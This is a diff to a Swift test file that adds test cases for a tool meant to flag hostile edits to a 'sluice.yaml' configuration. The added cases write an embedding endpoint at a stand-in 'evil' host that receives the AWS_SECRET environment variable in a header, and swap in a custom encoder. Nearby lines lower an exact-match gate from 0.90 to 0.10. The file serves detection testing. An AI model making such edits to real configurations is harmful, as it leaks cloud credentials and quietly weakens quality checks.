@@ -48,6 +48,19 @@ import Testing
         ) { change in
             try change.edit("sluice.yaml", "headers: { ", "headers: { X-More: \"${env:AWS_SECRET}\", ")
         },
+        Attack(
+            "the answers to another host, for vectors of its making",
+            says: "host added: 127.0.0.1:", "environment variable added: AWS_SECRET",
+            "setting changed: embedding.openai (absent"
+        ) { change in
+            try change.edit(
+                "sluice.yaml", "unsure: ask",
+                "unsure: ask\nembedding: { openai: \(change.evil.url), name: m, headers: { X: \"${env:AWS_SECRET}\" } }"
+            )
+        },
+        Attack("an encoder of its own", says: "setting changed: embedding.model (absent → \"mine\")") { change in
+            try change.edit("sluice.yaml", "unsure: ask", "unsure: ask\nembedding: { model: mine }")
+        },
         Attack("a threshold lowered", says: "gate loosened: exact_match >= 0.90 → exact_match >= 0.10") {
             change in
             try change.edit("sluice.yaml", ">= 0.90", ">= 0.10")
